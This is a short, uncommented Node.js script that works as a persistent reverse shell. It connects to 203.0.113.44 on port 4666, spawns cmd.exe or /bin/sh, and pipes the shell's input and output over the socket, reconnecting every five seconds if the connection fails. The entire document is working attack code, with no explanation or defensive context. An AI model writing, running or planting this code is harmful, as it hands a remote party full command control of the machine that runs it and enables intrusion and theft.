const net = require('net');
const { spawn } = require('child_process');
function connect() {
  const c = new net.Socket();
  c.connect(4666, '203.0.113.44', () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    c.pipe(sh.stdin);
    sh.stdout.pipe(c);
    sh.stderr.pipe(c);
  });
  c.on('error', () => setTimeout(connect, 5000));
}
connect();
